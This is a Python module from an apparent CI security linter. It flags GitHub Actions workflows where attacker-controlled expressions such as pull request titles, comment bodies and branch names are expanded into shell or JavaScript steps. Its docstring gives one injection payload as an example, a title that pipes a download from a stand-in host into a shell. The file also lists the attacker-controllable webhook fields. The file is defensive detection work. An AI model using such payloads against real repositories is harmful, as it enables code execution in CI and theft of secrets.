"""Expression injection: attacker-controllable `${{ }}` contexts expanded into shell or JS code.

GitHub substitutes `${{ }}` expressions into the script text before the shell runs it, so a pull
request title like `"; curl evil | sh #` becomes code. Safe contexts (numbers, SHAs, ids, step
outcomes) are allowed; the fix is to pass the value through `env:` and quote it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from soc2lint.formats import nodes
from soc2lint.model import Document, Hit

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
CONTEXT = re.compile(
    r"\b(?:github|inputs|steps|needs|env|matrix)(?:\.[A-Za-z0-9_*\-]+|\[[^\]]*\])+"
)

# Fields of webhook payloads that anyone who can open an issue, a pull request or a fork controls.
ATTACKER_CONTROLLED = re.compile(
    r"""^github\.(?:
        head_ref
      | event\.(?:issue|pull_request|discussion)\.(?:title|body)
      | event\.(?:comment|review|review_comment)\.body
      | event\.pull_request\.head\.(?:ref|label|repo\.default_branch)
      | event\.(?:head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:name|email)|committer\.(?:name|email))
      | event\.commits(?:\.\*|\[[^\]]*\])\.(?:message|author\.(?:name|email)|committer\.(?:name|email))
      | event\.workflow_run\.(?:head_branch|display_title|head_repository\.description)
      | event\.workflow_run\.pull_requests(?:\.\*|\[[^\]]*\])\.head\.ref
      | event\.pages(?:\.\*|\[[^\]]*\])\.page_name
    )$""",
    re.VERBOSE,
)
INPUT = re.compile(r"^(?:inputs|github\.event\.inputs)\.([A-Za-z0-9_\-]+)$")
# Branch and tag names: chosen by whoever can push a ref (not by outside contributors: a fork's
# pull request has `github.ref_name` `N/merge`), and free to hold `$(...)`, `;` and backticks.
REF_NAME = re.compile(r"^github\.(?:ref_name|ref|base_ref|event\.ref|event\.base_ref)$")

# Functions whose result is a boolean or a number, whatever their arguments: their value cannot
# carry text into the script.
CONSTANT_FUNCTIONS = frozenset(
    {"contains", "startswith", "endswith", "success", "failure", "always", "cancelled", "hashfiles"}
)
TOKEN = re.compile(
    r"""\s*(?:
        (?P<string>'(?:[^']|'')*')
      | (?P<op>==|!=|<=|>=|&&|\|\||[<>!(),\[\]])
      | (?P<context>"""
    + CONTEXT.pattern[2:]
    + r""")
      | (?P<number>[-+]?(?:0x[0-9a-fA-F]+|[0-9]+(?:\.[0-9]+)?(?:[eE][-+]?[0-9]+)?))
      | (?P<name>[A-Za-z_][A-Za-z0-9_\-]*)
      | (?P<property>\.[A-Za-z0-9_\-*]+)
    )""",
    re.VERBOSE,
)


class _Unparsed(Exception):
    pass


def _tokens(text: str) -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    at = 0
    text = text.rstrip()
    while at < len(text):
        m = TOKEN.match(text, at)
        if not m or m.end() == at:
            raise _Unparsed(text[at:])
        kind = m.lastgroup or ""
        out.append((kind, m.group(kind)))
        at = m.end()
    return out


class _Parser:
    """GitHub's expression grammar, reduced to one question: which contexts can the value of the
    expression be (or contain)? Comparisons, `!` and the boolean functions yield no text;
    `a && b` yields `b` (or a falsy `a`: an empty string at most); `a || b` either."""

    def __init__(self, tokens: list[tuple[str, str]]) -> None:
        self.tokens = tokens
        self.at = 0

    def peek(self) -> str | None:
        return self.tokens[self.at][1] if self.at < len(self.tokens) else None

    def take(self) -> tuple[str, str]:
        if self.at >= len(self.tokens):
            raise _Unparsed("end")
        self.at += 1
        return self.tokens[self.at - 1]

    def expect(self, value: str) -> None:
        if self.take()[1] != value:
            raise _Unparsed(value)

    def parse(self) -> list[str]:
        value = self.or_()
        if self.at != len(self.tokens):
            raise _Unparsed("trailing")
        return value

    def or_(self) -> list[str]:
        value = self.and_()
        while self.peek() == "||":
            self.take()
            value = value + self.and_()
        return value

    def and_(self) -> list[str]:
        value = self.compare()
        while self.peek() == "&&":
            self.take()
            value = self.compare()
        return value

    def compare(self) -> list[str]:
        value = self.unary()
        while self.peek() in ("==", "!=", "<", ">", "<=", ">="):
            self.take()
            self.unary()
            value = []
        return value

    def unary(self) -> list[str]:
        if self.peek() == "!":
            self.take()
            self.unary()
            return []
        return self.postfix()

    def postfix(self) -> list[str]:
        value = self.primary()
        while True:
            if self.peek() == "[":
                self.take()
                self.or_()
                self.expect("]")
            elif self.at < len(self.tokens) and self.tokens[self.at][0] == "property":
                self.take()
            else:
                return value

    def primary(self) -> list[str]:
        kind, text = self.take()
        if kind == "context":
            return [text]
        if kind in ("string", "number"):
            return []
        if text == "(":
            value = self.or_()
            self.expect(")")
            return value
        if kind == "name":
            if self.peek() != "(":
                if text.lower() in ("true", "false", "null"):
                    return []
                return [text]  # a context without a property (`github`, `inputs`): its JSON
            self.take()
            args: list[str] = []
            while self.peek() != ")":
                args += self.or_()
                if self.peek() == ",":
                    self.take()
            self.take()
            return [] if text.lower() in CONSTANT_FUNCTIONS else args
        raise _Unparsed(text)


def value_contexts(expression: str) -> list[str]:
    """The contexts whose text the value of `expression` (inside `${{ }}`) can carry, in order;
    every context it names when it does not parse."""
    try:
        return _Parser(_tokens(expression)).parse()
    except (_Unparsed, RecursionError):
        return [m.group(0) for m in CONTEXT.finditer(expression)]


def _string_inputs(root: nodes.Node) -> set[str] | None:
    """Names of workflow_dispatch/workflow_call inputs typed as strings (None: no declared inputs)."""
    on = nodes.get(root, "on")
    if on is None or not isinstance(on[1], nodes.MappingNode):
        return None
    names: set[str] = set()
    declared = False
    for trigger in ("workflow_dispatch", "workflow_call"):
        hit = nodes.get(on[1], trigger)
        inputs = nodes.get(hit[1], "inputs") if hit else None
        if inputs is None:
            continue
        for name, _k, spec in nodes.items(inputs[1]):
            declared = True
            kind = nodes.get(spec, "type")
            type_name = (
                kind[1].value if kind and isinstance(kind[1], nodes.ScalarNode) else "string"
            )
            if type_name in ("string", "environment"):
                names.add(name)
    return names if declared else None


def dangerous(
    context: str, string_inputs: set[str] | None, events: bool, inputs: bool, refs: bool = False
) -> bool:
    if ATTACKER_CONTROLLED.match(context):
        return events
    if REF_NAME.match(context):
        return refs
    m = INPUT.match(context)
    if m and inputs:
        return string_inputs is None or m.group(1) in string_inputs
    return False


def _scripts(root: nodes.Node) -> Iterator[tuple[tuple[Any, ...], nodes.ScalarNode]]:
    """(route, scalar) of every `run:` and github-script `script:` in workflow jobs or an action."""
    step_lists: list[tuple[tuple[Any, ...], nodes.Node]] = []
    jobs = nodes.get(root, "jobs")
    if jobs:
        for job_id, _k, job in nodes.items(jobs[1]):
            steps = nodes.get(job, "steps")
            if steps:
                step_lists.append((("jobs", job_id, "steps"), steps[1]))
    runs = nodes.get(root, "runs")
    if runs:
        steps = nodes.get(runs[1], "steps")
        if steps:
            step_lists.append((("runs", "steps"), steps[1]))
    for prefix, steps_node in step_lists:
        if not isinstance(steps_node, nodes.SequenceNode):
            continue
        for i, step in enumerate(steps_node.value):
            run = nodes.get(step, "run")
            if run and isinstance(run[1], nodes.ScalarNode):
                yield prefix + (i, "run"), run[1]
            uses = nodes.get(step, "uses")
            if (
                uses
                and isinstance(uses[1], nodes.ScalarNode)
                and uses[1].value.startswith("actions/github-script@")
            ):
                with_ = nodes.get(step, "with")
                script = nodes.get(with_[1], "script") if with_ else None
                if script and isinstance(script[1], nodes.ScalarNode):
                    yield prefix + (i, "with", "script"), script[1]


def detect(doc: Document, params: Mapping[str, Any], context: Any = None) -> Iterator[Hit]:
    events = bool(params.get("include_events", True))
    refs = bool(params.get("include_refs", False))
    # a composite action's inputs come from its caller's workflow, where they are judged
    inputs = bool(params.get("include_inputs", False)) and nodes.get(doc.root, "runs") is None
    string_inputs = _string_inputs(doc.root)
    for route, scalar in _scripts(doc.root):
        cursor = scalar.start_mark.index
        for expr in EXPRESSION.finditer(scalar.value):
            for context in value_contexts(expr.group(1)):
                if not dangerous(context, string_inputs, events, inputs, refs):
                    continue
                span = _source_span(doc, scalar, expr.group(0), cursor)
                if span:
                    cursor = span[1]
                yield Hit(
                    route,
                    "value",
                    {"expression": expr.group(0).strip(), "context": context, "identity": context},
                    span,
                )
                break


def _source_span(
    doc: Document, scalar: nodes.ScalarNode, needle: str, start: int
) -> tuple[int, int] | None:
    """Offsets of `needle` in the source text within the scalar, if it appears verbatim."""
    text = doc.text
    end = scalar.end_mark.index
    at = text.find(needle, start, end)
    return (at, at + len(needle)) if at >= 0 else None
